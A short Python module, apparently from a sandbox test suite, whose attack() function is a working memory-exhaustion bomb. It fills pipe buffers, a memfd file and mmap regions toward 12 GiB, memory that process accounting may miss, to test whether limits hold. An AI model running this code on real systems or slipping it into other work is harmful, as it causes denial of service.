"""Take memory that no process seems to own: shared, in files of memory, in pipes."""

import contextlib
import fcntl
import mmap
import os

CLASS = "bombs"
MOST = 12 * 2**30
STEP = 2**27


def attack(name, /, *args, **kwargs):
    taken, kept = 0, []
    with contextlib.suppress(OSError):
        for _ in range(500):
            _, end = os.pipe()
            fcntl.fcntl(end, 1031, 2**20)  # F_SETPIPE_SZ
            os.write(end, b"x" * 2**20)
            taken += 2**20
    with contextlib.suppress(OSError):
        file = os.memfd_create("kata-attack")
        while taken < MOST // 2:
            taken += os.write(file, b"x" * STEP)
    while taken < MOST:
        area = mmap.mmap(-1, STEP)
        area.write(b"x" * STEP)
        kept.append(area)
        taken += STEP
    raise RuntimeError(f"BOAST: {taken >> 30} GiB of memory were taken")
